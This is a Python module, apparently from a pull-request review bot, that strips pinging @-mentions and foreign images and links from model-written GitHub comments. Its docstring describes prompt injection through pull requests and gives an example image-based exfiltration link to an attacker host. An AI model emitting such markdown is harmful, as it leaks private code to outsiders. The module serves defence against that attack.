"""What Petrel posts, made harmless whatever the model or the pull request wrote in it.

The diff, the issue and the model's answer are written by whoever opened the pull request, so
any text Petrel posts may carry a prompt-injected `@org/team` (pinging a hundred people in
Petrel's name) or `![](https://attacker.example/?data=...)` (GitHub's image proxy fetches that
URL for every viewer: a private repository's code leaves with it). Two rules, on every posted
text (bodies, review comments, replies, description sections), after the secrets are redacted:

- outside code, no @-mention pings: a zero-width space follows the @ (code spans and fenced
  code blocks are kept byte for byte: a ```suggestion block must still apply);
- outside code, no image and no link points to a host other than GitHub's own (`GITHUB_URL`,
  derived from `GITHUB_API_URL`): such an image becomes IMAGE_REMOVED, such a link keeps its
  text and shows its URL as code (inert: not clickable, never fetched), raw HTML other than
  plain formatting tags is escaped, and LINKS_NOTE says so at the end. Links to GitHub's host
  stay, so Petrel's own links to files and issues work.

The scanner below reads Markdown as CommonMark does for the constructs that matter (code spans,
fences, links, images, autolinks, raw HTML), but a scanner is not the parser. So the result is
then rendered with cmark-gfm, GitHub's own Markdown parser (the `cmarkgfm` package), and the
HTML is checked: a text outside <code>/<pre> with a pinging mention, or any URL attribute
outside GitHub's host, means the scanner misread something, and the whole text is posted as a
fenced code block instead (with every mention neutralised even there), under FALLBACK_NOTE.
cmarkgfm costs about 2 ms to import and 1.4 MB installed; its only dependency, cffi, already
comes with PyGithub's cryptography.
"""

from __future__ import annotations

import bisect
import html
import logging
import re
from html.parser import HTMLParser

log = logging.getLogger("petrel.harmless")

ZWSP = "\u200b"
IMAGE_REMOVED = "(image removed)"
LINKS_NOTE = ("<sub>Petrel removed images and made links inert (shown as code) that pointed to hosts other "
              "than {host}: text written from a pull request must not send its content elsewhere.</sub>")
FALLBACK_NOTE = ("<sub>Petrel shows this text as code: its mentions, links or images could not be made "
                 "harmless otherwise.</sub>")
REFUSED = "_Petrel could not make this text harmless to post, so it is left out._"

# Raw HTML that only formats: kept when it has no attribute but these. Any other tag is escaped.
SAFE_TAGS = frozenset({
    "details", "summary", "sub", "sup", "b", "i", "em", "strong", "code", "kbd", "samp", "var", "tt", "br", "hr",
    "p", "div", "span", "ins", "del", "s", "strike", "u", "mark", "small", "blockquote", "pre", "ul", "ol", "li",
    "dl", "dt", "dd", "table", "thead", "tbody", "tfoot", "tr", "th", "td", "h1", "h2", "h3", "h4", "h5", "h6",
})
SAFE_ATTRIBUTES = frozenset({"open", "align", "colspan", "rowspan"})
# attributes that make a browser (or GitHub's image proxy) fetch or link a URL
URL_ATTRIBUTES = frozenset({"href", "src", "srcset", "poster", "background", "action", "formaction", "data", "cite",
                            "longdesc", "xlink:href", "usemap", "codebase", "lowsrc", "dynsrc", "manifest", "ping",
                            "icon", "profile", "archive", "classid"})

_LINE = re.compile(r"[^\r\n]*(?:\r\n|\r|\n)|[^\r\n]+\Z")
_FENCE_OPEN = re.compile(r"^( {0,3})(`{3,}|~{3,})(.*)$")
_BLANK = re.compile(r"^[ \t]*$")
_BLOCK_START = re.compile(r"^ {0,3}(?:[-+*]|\d{1,9}[.)]|#{1,6})(?:[ \t]|$)")
# HTML blocks (CommonMark's kinds 1, 2, 6 and 7) whose first tag this scanner keeps: raw HTML up to their end
_HTML_BLOCK_NAMES = frozenset((
    "address", "article", "aside", "base", "basefont", "blockquote", "body", "caption", "center", "col", "colgroup",
    "dd", "details", "dialog", "dir", "div", "dl", "dt", "fieldset", "figcaption", "figure", "footer", "form", "frame",
    "frameset", "h1", "h2", "h3", "h4", "h5", "h6", "head", "header", "hr", "html", "iframe", "legend", "li", "link",
    "main", "menu", "menuitem", "nav", "noframes", "ol", "optgroup", "option", "p", "param", "section", "source",
    "summary", "table", "tbody", "td", "tfoot", "th", "thead", "title", "tr", "track", "ul"))
_HTML_START = re.compile(r"^ {0,3}<(/?)([A-Za-z][A-Za-z0-9\-]*)(?=[\s/>]|$)")
# a thematic break or a setext underline: the paragraph above ends there
_BREAK = re.compile(r"^ {0,3}(?:(?:\*[ \t]*){3,}|(?:-[ \t]*){3,}|(?:_[ \t]*){3,}|=+[ \t]*|-+[ \t]*)$")
_TABLE_DELIMITER = re.compile(r"^ {0,3}\|?[ \t]*:?-+:?[ \t]*(?:\|[ \t]*:?-+:?[ \t]*)*\|?[ \t]*$")
_PUNCTUATION = frozenset("!\"#$%&'()*+,-./:;<=>?@[\\]^_`{|}~")
_AT_ENTITY = re.compile(r"&(?:#0*64|#[xX]0*40|commat);")
_URI_AUTOLINK = re.compile(r"<([A-Za-z][A-Za-z0-9+.\-]{1,31}:[^\x00-\x20<>]*)>")
_EMAIL_AUTOLINK = re.compile(r"<[A-Za-z0-9.!#$%&'*+/=?^_`{|}~\-]+@[A-Za-z0-9](?:[A-Za-z0-9\-]{0,61}[A-Za-z0-9])?"
                             r"(?:\.[A-Za-z0-9](?:[A-Za-z0-9\-]{0,61}[A-Za-z0-9])?)*>")
_ATTRIBUTE = r"""(?:\s+[A-Za-z_:][A-Za-z0-9_.:\-]*(?:\s*=\s*(?:[^\s"'=<>`]+|'[^']*'|"[^"]*"))?)"""
_OPEN_TAG = re.compile(rf"<([A-Za-z][A-Za-z0-9\-]*)({_ATTRIBUTE}*)\s*/?>")
_CLOSE_TAG = re.compile(r"</([A-Za-z][A-Za-z0-9\-]*)\s*>")
_ATTRIBUTE_NAME = re.compile(r"""\s+([A-Za-z_:][A-Za-z0-9_.:\-]*)(?:\s*=\s*(?:[^\s"'=<>`]+|'[^']*'|"[^"]*"))?""")
_COMMENT = re.compile(r"<!--(.*?)-->", re.DOTALL)  # in raw HTML: anything to the first -->
# in a paragraph, CommonMark's (0.29) comment: not starting with > or ->, no --, not ending with -
_INLINE_COMMENT = re.compile(r"<!--(?!-?>)((?:(?!--).)*?)(?<!-)-->", re.DOTALL)
_BARE_URL = re.compile(r"(?:https?://|ftp://|www\.)", re.IGNORECASE)
_TASK = re.compile(r"^[ \t]*(?:>[ \t]*)*(?:[-+*]|\d{1,9}[.)])[ \t]+$")
# GitHub's mention rule, made stricter: an @ after anything but an ASCII word character, then a
# letter or digit of any script (GitHub's is ASCII, case-insensitive)
_PINGING = re.compile(r"(?:^|[^A-Za-z0-9_])@[^\W_]")


def make_harmless(text: str, host: str) -> str:
    """`text` with no pinging mention and no image or link to a host other than `host` outside
    code, checked by rendering it as GitHub does; text the scanner cannot make harmless is
    posted as a code block. Apply it to text whose secrets are already redacted."""
    out, inert = neutralise(text, host)
    if inert:
        out = f"{out.rstrip()}\n\n{LINKS_NOTE.format(host=host)}"
    problems = check(out, host)
    if not problems:
        return out
    log.warning("posting a text as code: %s", problems[0])
    out = as_code(text)
    if check(out, host):  # cannot happen: a fence longer than any in the text holds it all
        log.error("a text could not be made harmless: %s", check(out, host)[0])
        return REFUSED
    return out


def neutralise(text: str, host: str) -> tuple[str, int]:
    """(the text with mentions neutralised and foreign links and images made inert outside code,
    how many links and images were made inert). Fenced code blocks are kept as they are."""
    out: list[str] = []
    inert = 0
    budget = [SCAN_BUDGET]  # for the whole text: no input makes the scan quadratic
    for kind, part in _blocks(text):
        if kind == "code":
            out.append(part)
        else:  # in an HTML block, backticks are no code span: everything is scanned as text
            scanner = _Inline(part, host, raw=kind == "html", budget=budget)
            out.append(scanner.run())
            inert += scanner.inert
    return "".join(out), inert


def neutralise_everywhere(text: str) -> str:
    """Every @ that could start a mention neutralised, in code too (safe whatever the Markdown)."""
    text = _AT_ENTITY.sub("@", text)
    return re.sub(r"@(?=[^\W_]|&)", "@" + ZWSP, text)


def as_code(text: str) -> str:
    """The text as one fenced code block (longer than any run of tildes in it), mentions neutralised too."""
    body = neutralise_everywhere(text)
    fence = "~" * max(3, max((len(run) for run in re.findall(r"~+", body)), default=0) + 1)
    return f"{FALLBACK_NOTE}\n\n{fence}text\n{body.rstrip()}\n{fence}"


def allowed_url(url: str, host: str) -> bool:
    """True for a URL that stays on `host`: relative, an anchor, http(s) to `host`, or a mail address."""
    value = re.sub(r"[\t\n\r]", "", url).strip("\x00\x01\x02\x03\x04\x05\x06\x07\x08\x0b\x0c\x0e\x0f\x10\x11\x12"
                                                "\x13\x14\x15\x16\x17\x18\x19\x1a\x1b\x1c\x1d\x1e\x1f ")
    lowered = value.lower()
    scheme = re.match(r"^([a-z][a-z0-9+.\-]*):", lowered)
    if scheme:
        if scheme.group(1) == "mailto":
            return not re.search(r"[?&]", value)  # an address, no prefilled body
        if scheme.group(1) not in ("http", "https"):
            return False
        return _same_host(value[scheme.end():], host)
    if re.match(r"^[/\\]{2}", value):  # protocol-relative: //host/...
        return _same_host(value, host)
    return True  # a path on the page's own host, or an anchor


def _same_host(rest: str, host: str) -> bool:
    authority = re.split(r"[/\\?#]", rest.lstrip("/\\"), maxsplit=1)[0]
    if "@" in authority or "%" in authority:
        return False
    name = authority.rsplit(":", 1)[0] if not authority.endswith("]") else authority
    return name.lower().rstrip(".") == host.lower()


# --------------------------------------------------------------------------- blocks


def _html_block(line: str, in_paragraph: bool, comment_closes: bool) -> str | None:
    """The end condition of the HTML block `line` starts ("pre", "comment" or "blank"), or None.
    Only blocks whose opening tag this scanner keeps count: any other tag is escaped, and the
    line is then a paragraph's."""
    if re.match(r"^ {0,3}<!--", line):
        if re.match(r"^ {0,3}<!---?>", line) or not comment_closes:
            return None  # <!--> or unclosed: its <!-- is escaped below, and the line is a paragraph's
        return "comment"
    start = _HTML_START.match(line)
    if not start:
        return None
    name = start.group(2).lower()
    tag = (_CLOSE_TAG if start.group(1) else _OPEN_TAG).match(line, line.index("<"))
    if not tag or name not in SAFE_TAGS or not _safe_attributes(tag):
        return None
    if name == "pre" and not start.group(1):
        return "pre"
    if name in _HTML_BLOCK_NAMES:
        return "blank"
    if not in_paragraph and not line[tag.end():].strip():  # kind 7: a lone complete tag, not inside a paragraph
        return "blank"
    return None


def _blocks(text: str):
    """(kind, text) pieces: "code" (a fenced code block, opening line to closing line), "html"
    (an HTML block: raw, no Markdown in it) and "text", cut where no code span or link can cross:
    at blank lines, before a list item, a heading or a break, and around each cell of a table
    (GitHub splits a table's rows at | first)."""
    pending: list[str] = []
    fence: tuple[str, int] | None = None
    html: str | None = None
    table = False
    lines = _LINE.findall(text)  # CommonMark's line endings only (str.splitlines knows more)
    last_comment_end = max((n for n, line in enumerate(lines) if "-->" in line), default=-1)
    for number, line in enumerate(lines):
        bare = line.rstrip("\r\n")
        if fence is not None:
            pending.append(line)
            char, length = fence
            if re.match(rf"^ {{0,3}}{re.escape(char)}{{{length},}}[ \t]*$", bare):
                yield "code", "".join(pending)
                pending, fence = [], None
            continue
        if html is not None:
            if html == "blank" and _BLANK.match(bare):
                yield "html", "".join(pending)
                pending, html = [], None
            else:
                pending.append(line)
                if _html_ends(html, bare):
                    yield "html", "".join(pending)
                    pending, html = [], None
                continue
        opening = _FENCE_OPEN.match(bare)
        starts_fence = opening and not (opening.group(2)[0] == "`" and "`" in opening.group(3))
        starts_html = _html_block(bare, bool(pending) and not table, number <= last_comment_end)
        quote = bool(re.match(r"^ {0,3}>", bare)) and not (pending and re.match(r"^ {0,3}>", pending[-1]))
        if starts_fence or starts_html or quote or _BLANK.match(bare) or _BLOCK_START.match(bare) or _BREAK.match(bare):
            if pending:
                yield "text", "".join(pending)
            pending, table = [], False
        if starts_html:
            pending, html = [line], starts_html
            if _html_ends(html, bare):
                yield "html", line
                pending, html = [], None
            continue
        if _BREAK.match(bare) or _BLANK.match(bare):
            yield "text", line
            continue
        if starts_fence:
            pending, fence = [line], (opening.group(2)[0], len(opening.group(2)))
            continue
        following = lines[number + 1].rstrip("\r\n") if number + 1 < len(lines) else ""
        table = table or ("|" in bare and bool(_TABLE_DELIMITER.match(following)))
        if table:
            if pending:
                yield "text", "".join(pending)
                pending = []
            for cell in re.split(r"((?<!\\)\|)", line):
                if cell:
                    yield "text", cell
            continue
        pending.append(line)
    if pending:
        yield "code" if fence is not None else "html" if html is not None else "text", "".join(pending)


def _html_ends(kind: str, line: str) -> bool:
    if kind == "pre":
        return bool(re.search(r"</(?:script|pre|style)>", line, re.IGNORECASE))
    if kind == "comment":
        return "-->" in line
    return False


# --------------------------------------------------------------------------- inlines


def _code(text: str, runs: int) -> str:
    """`text` as a code span delimited by runs of `runs` backticks (longer than any in the text)."""
    text = text.replace("\r", " ").replace("\n", " ")
    pad = " " if text.startswith(("`", " ")) or text.endswith(("`", " ")) else ""
    return f"{'`' * runs}{pad}{text}{pad}{'`' * runs}"


def _unescape(value: str) -> str:
    """A link destination as the browser gets it: backslash escapes and entities resolved."""
    return html.unescape(re.sub(r"\\([!-/:-@\[-`{-~])", r"\1", value))


def _backtick_run(s: str, i: int) -> int:
    j = i
    while j < len(s) and s[j] == "`":
        j += 1
    return j - i


def _code_span_ends(s: str) -> dict[int, int]:
    """Start of each backtick run that opens a code span -> the span's end (CommonMark's rule:
    the next run of the same length closes it; runs inside a span open nothing)."""
    runs = [(run.start(), len(run.group(0))) for run in re.finditer(r"`+", s)]
    by_length: dict[int, list[int]] = {}
    for start, length in runs:
        by_length.setdefault(length, []).append(start)
    ends: dict[int, int] = {}
    covered = 0
    for start, length in runs:
        if start < covered:
            continue
        starts = by_length[length]
        k = bisect.bisect_right(starts, start)
        if k < len(starts):
            ends[start] = covered = starts[k] + length
    return ends


def _safe_attributes(tag: re.Match) -> bool:
    """True for a closing tag, or an opening tag whose attributes only format (open, align, ...)."""
    if tag.re is _CLOSE_TAG:
        return True
    return all(name.lower() in SAFE_ATTRIBUTES for name in _ATTRIBUTE_NAME.findall(tag.group(2)))


def _raw_tag_end(s: str, i: int) -> int | None:
    """End of an autolink or a raw HTML tag starting at `i` (they take precedence over code spans)."""
    for pattern in (_URI_AUTOLINK, _EMAIL_AUTOLINK, _OPEN_TAG, _CLOSE_TAG, _INLINE_COMMENT):
        match = pattern.match(s, i)
        if match:
            return match.end()
    return None


def _bracket_pairs(s: str) -> dict[int, int]:
    """Each `[` -> its `]` (balanced, skipping escapes, code spans, autolinks and tags), in one pass."""
    spans = _code_span_ends(s)
    pairs, stack, j, n = {}, [], 0, len(s)
    while j < n:
        c = s[j]
        if c == "\\" and j + 1 < n and s[j + 1] in _PUNCTUATION:
            j += 2
            continue
        if c == "`":
            run = _backtick_run(s, j)
            j = spans.get(j, j + run)
            continue
        if c == "<":
            end = _raw_tag_end(s, j)
            if end is not None:
                j = end
                continue
        if c == "[":
            stack.append(j)
        elif c == "]" and stack:
            pairs[stack.pop()] = j
        j += 1
    return pairs


MAX_DESTINATION = 4096  # a link's destination and title scanned at most this far: past it, no link (the [ is escaped)
SCAN_BUDGET = 200_000  # and all of a text's destinations together: past it, every further [ is escaped
MAX_NESTING = 8  # links and images read inside one another at most this deep; deeper, their [ is escaped


def _destination(s: str, k: int, limit: int = 4096) -> tuple[str, int] | None:
    """(destination, end after the closing parenthesis) of an inline link whose `(` is at k - 1
    (None past `limit` characters: the caller escapes the `[`, which is always safe)."""
    n = min(len(s), k + limit)
    j = k
    while j < n and s[j] in " \t\n":
        j += 1
    if j < n and s[j] == "<":
        end = j + 1
        while end < n and s[end] not in "<>\n":
            end += 2 if s[end] == "\\" else 1
        if end >= n or s[end] != ">":
            return None
        destination, j = s[j + 1:end], end + 1
    else:
        start, depth = j, 0
        while j < n and s[j] > " ":
            c = s[j]
            if c == "\\" and j + 1 < n and s[j + 1] in _PUNCTUATION:
                j += 2
                continue
            if c == "(":
                depth += 1
            elif c == ")":
                if depth == 0:
                    break
                depth -= 1
            j += 1
        destination = s[start:j]
    spaced = j
    while j < n and s[j] in " \t\n":
        j += 1
    if j < n and s[j] in "\"'(" and j > spaced:
        close = ")" if s[j] == "(" else s[j]
        j += 1
        while j < n and s[j] != close:
            j += 2 if s[j] == "\\" else 1
        if j >= n:
            return None
        j += 1
        while j < n and s[j] in " \t\n":
            j += 1
    if j < n and s[j] == ")":
        return destination, j + 1
    return None


def _url_end(s: str, i: int, early: bool = False) -> int:
    """End of a bare URL starting at `i` as cmark-gfm's autolink finds it (to a space or a `<`,
    less trailing punctuation). `early`: also stop at a quote, `>` or backtick, for a URL about
    to become a code span (what follows it is then read alike by this scanner and by cmark)."""
    stops = "<>\"'`" if early else "<"
    j = i
    while j < len(s) and not s[j].isspace() and s[j] not in stops:
        j += 1
    unbalanced = s.count(")", i, j) - s.count("(", i, j)
    while j > i:
        last = s[j - 1]
        if last in "?!.,:*_~'\"":
            j -= 1
        elif last == ")" and unbalanced > 0:
            j -= 1
            unbalanced -= 1
        elif last == ";" and re.search(r"&[A-Za-z0-9]{1,32};$", s[max(i, j - 34):j]):
            j -= len(re.search(r"&[A-Za-z0-9]{1,32};$", s[max(i, j - 34):j]).group(0))
        else:
            break
    return j


class _Inline:
    """One pass over a paragraph's text, left to right, as CommonMark reads its inlines."""

    def __init__(self, s: str, host: str, raw: bool = False, longest: list[int] | None = None, depth: int = 0,
                 budget: list[int] | None = None):
        self.s = s
        self.host = host
        self.depth = depth  # links within links: past MAX_NESTING, every [ is escaped
        self.budget = budget if budget is not None else [SCAN_BUDGET]  # shared with the nested scanners
        self._pairs: dict[int, int] | None = None
        # raw: HTML (a block, a comment), where Markdown means nothing: no code span, link or
        # autolink; only tags and mentions matter there
        self.raw = raw
        # the longest backtick run so far: each inserted code span gets a longer one of its own, so
        # that no two runs of the same length can pair up differently than intended
        self.longest = longest if longest is not None else [max((len(r) for r in re.findall(r"`+", s)), default=0)]
        self.inert = 0
        self.scanned = False  # cmark's memo of closing backtick runs, quirk included (see _closing)
        self.ticks: dict[int, int] = {}

    def _closing(self, i: int) -> int | None:
        """End of the code span opened at `i`, exactly as cmark's scan_to_closing_backticks finds it:
        it remembers where it last saw a run of each length, and once a scan has reached the end
        it trusts that memo, even where a later, shorter scan overwrote it (so ``a` `b` @c` holds
        no code span around @c, whatever the spec says)."""
        s, n = self.s, _backtick_run(self.s, i)
        pos = i + n
        if n > 80 or (self.scanned and self.ticks.get(n, -1) <= pos):
            return None
        while True:
            j = s.find("`", pos)
            if j < 0:
                self.scanned = True
                return None
            m = _backtick_run(s, j)
            self.ticks[m] = j
            pos = j + m
            if m == n:
                return pos

    def _sub(self, text: str, raw: bool = False) -> str:
        inner = _Inline(text, self.host, raw, self.longest, self.depth + 1, self.budget)
        out = inner.run()
        self.inert += inner.inert
        return out

    def run(self) -> str:
        s, out, i, n = self.s, [], 0, len(self.s)
        while i < n:
            c = s[i]
            if c == "\\" and i + 1 < n and s[i + 1] in _PUNCTUATION and not self.raw:  # no escapes in HTML
                if s[i + 1] == "@":  # \@ shows an @: it is a mention's start like any other
                    out.append("\\")
                    i += 1
                else:
                    out.append(s[i:i + 2])
                    i += 2
                continue
            if c == "`" and not self.raw:
                end = self._closing(i)
                run = _backtick_run(s, i)
                out.append(s[i:end] if end is not None else s[i:i + run])
                i = end if end is not None else i + run
                continue
            if c == "<":
                i = self._angle(i, out)
                continue
            if c == "!" and s.startswith("![", i) and not self.raw:
                i = self._link(i + 1, out, image=True)
                continue
            if c == "[" and not self.raw:
                i = self._link(i, out, image=False)
                continue
            if c in "hHfFwW" and _BARE_URL.match(s, i) and not self.raw:
                prefix = _BARE_URL.match(s, i).group(0)
                end = _url_end(s, i)
                url = s[i:end]
                if end - i <= len(prefix):  # nothing after http:// or www.: no link
                    out.append(c)
                    i += 1
                elif (allowed_url("http://" + url if prefix.lower() == "www." else url, self.host) and "@" not in url
                      and self._autolinked_here(i, prefix)):
                    out.append(url)  # kept: GitHub links it, to its own host
                    if s.startswith("<", end):
                        out.append(" ")  # it ends at this <; once escaped as &lt; it would not
                    i = end
                else:
                    end = _url_end(s, i, early=True)
                    self._inert_code(out, s[i:end], end)
                    i = end
                continue
            if c == "@" or (c == "&" and _AT_ENTITY.match(s, i)):
                width = 1 if c == "@" else _AT_ENTITY.match(s, i).end() - i
                before = s[i - 1] if i else ""
                after = s[i + width] if i + width < n else ""
                out.append(s[i:i + width])
                # after a letter or digit it is an address, not a mention; after anything else (an _
                # or * may be emphasis markup, gone once rendered) it may ping
                if not re.match(r"[A-Za-z0-9]", before) and (after.isalnum() or after == "&"):
                    out.append(ZWSP)
                i += width
                continue
            out.append(c)
            i += 1
        return "".join(out)

    def _autolinked_here(self, i: int, prefix: str) -> bool:
        """Whether cmark-gfm starts an autolink at i: a scheme not glued to letters before it (it
        reads the whole word as the scheme), www. after a space, the start or one of *_~(."""
        before = self.s[i - 1] if i else " "
        if prefix.lower() == "www.":
            return before.isspace() or before in "*_~("
        return not before.isalpha()

    def _angle(self, i: int, out: list[str]) -> int:
        """An autolink, a raw HTML tag or comment, or a lone `<`, at i."""
        s = self.s
        for pattern in (_URI_AUTOLINK, _EMAIL_AUTOLINK) if not self.raw else ():
            match = pattern.match(s, i)
            if match:
                target = match.group(0)[1:-1]
                if pattern is _EMAIL_AUTOLINK and (not target.split("@")[0][-1:].isalnum()
                                                   or not allowed_url("mailto:" + target, self.host)):
                    break  # <x.@org/team>: the @ may be a mention's; escaped below like any other <
                if pattern is _EMAIL_AUTOLINK or allowed_url(target, self.host):
                    out.append(match.group(0))
                else:
                    self._inert_code(out, target, match.end())
                return match.end()
        comment = (_COMMENT if self.raw else _INLINE_COMMENT).match(s, i)
        if comment:  # hidden; its text is made harmless too, in case GitHub does not read it as a comment
            out.append("<!--" + self._sub(comment.group(1), raw=True) + "-->")
            return comment.end()
        for pattern in (_OPEN_TAG, _CLOSE_TAG):
            match = pattern.match(s, i)
            if match and match.group(1).lower() in SAFE_TAGS and _safe_attributes(match):
                out.append(match.group(0))
                return match.end()
        if i + 1 < len(s) and (s[i + 1].isalpha() or s[i + 1] in "/!?"):
            out.append("&lt;")  # any other tag (img, a, picture, ...) is shown, not rendered
        else:
            out.append("<")
        return i + 1

    def _link(self, i: int, out: list[str], image: bool) -> int:
        """An inline link or image whose `[` is at i; any other `[` is escaped (no reference link,
        whatever definitions the surrounding document holds)."""
        s = self.s
        if (not image and s.startswith(("[ ]", "[x]", "[X]"), i) and s[i + 3:i + 4] in (" ", "\t", "\n", "")
                and _TASK.match(s[s.rfind("\n", 0, i) + 1:i])):
            out.append(s[i:i + 3])  # a task list's checkbox
            return i + 3
        if self._pairs is None:
            self._pairs = _bracket_pairs(s) if self.depth < MAX_NESTING else {}
        close = self._pairs.get(i)
        parsed = None
        if close is not None and s.startswith("(", close + 1) and self.budget[0] > 0:
            limit = min(MAX_DESTINATION, self.budget[0])
            parsed = _destination(s, close + 2, limit)
            self.budget[0] -= (parsed[1] - close - 2) if parsed else limit
        if parsed is None:
            out.append("!\\[" if image else "\\[")
            return i + 1
        destination, end = parsed
        target = _unescape(destination[1:-1] if destination.startswith("<") else destination)
        text = s[i + 1:close]
        if allowed_url(target, self.host):
            out.append(("!" if image else "") + "[" + self._sub(text) + "]" + s[close + 1:end])
        elif image:
            out.append(IMAGE_REMOVED)
            self.inert += 1
        else:
            label = self._sub(text)
            if label.startswith("`") and out and out[-1].endswith("`"):
                out.append(" ")  # the [ taken away must not join two runs of backticks into one
            if label.strip():
                out.append(f"{label} (")
                self._inert_code(out, target, end)
                out.append(")")
            else:
                self._inert_code(out, target, end)
        return end

    def _inert_code(self, out: list[str], url: str, end: int) -> None:
        """Emit `url` as a code span, kept apart from a backtick before or after it (runs would merge)."""
        if out and out[-1].endswith(("`", "\\")):  # a backslash would escape the opening backtick
            out.append(" ")
        self.longest[0] += 1
        out.append(_code(url, self.longest[0]))
        if self.s.startswith("`", end):
            out.append(" ")
        self.inert += 1


# --------------------------------------------------------------------------- the check


def render(markdown: str) -> str:
    """`markdown` as GitHub renders it: cmark-gfm with GitHub's extensions, raw HTML kept (GitHub
    sanitises it afterwards; the check below is stricter than that sanitiser)."""
    import cmarkgfm
    from cmarkgfm.cmark import Options

    return cmarkgfm.github_flavored_markdown_to_html(markdown, Options.CMARK_OPT_UNSAFE | Options.CMARK_OPT_FOOTNOTES)


def check(markdown: str, host: str) -> list[str]:
    """What would be harmful in `markdown` as GitHub renders it: a text outside <code>/<pre> with
    a pinging mention, a URL attribute (href, src, srcset, ...) to another host than `host`."""
    checker = _Checker(host)
    try:
        checker.feed(render(markdown))
        checker.close()
    except Exception as error:  # noqa: BLE001 - HTML the checker cannot read is HTML it cannot vouch for
        return [f"HTML the check cannot read ({type(error).__name__}: {error})"]
    return checker.problems


class _Checker(HTMLParser):
    def __init__(self, host: str):
        super().__init__(convert_charrefs=True)
        self.host = host
        self.code = 0
        self.problems: list[str] = []

    def handle_starttag(self, tag, attrs):
        self._attributes(tag, attrs)
        if tag in ("code", "pre"):
            self.code += 1

    def handle_startendtag(self, tag, attrs):
        self._attributes(tag, attrs)

    def handle_endtag(self, tag):
        if tag in ("code", "pre") and self.code:
            self.code -= 1

    def handle_data(self, data):
        if not self.code and _PINGING.search(data):
            self.problems.append(f"a mention outside code: {_PINGING.search(data).group(0)!r}")

    def _attributes(self, tag, attrs):
        for name, value in attrs:
            name = name.lower()
            if name == "style" and value and "url(" in value.replace(" ", "").lower():
                self.problems.append(f"<{tag} style> with a url()")
            if name not in URL_ATTRIBUTES or value is None:
                continue
            urls = [part.strip().split(" ")[0] for part in value.split(",")] if name == "srcset" else [value]
            for url in urls:
                if not allowed_url(url, self.host):
                    self.problems.append(f"<{tag} {name}> to another host: {url[:80]!r}")
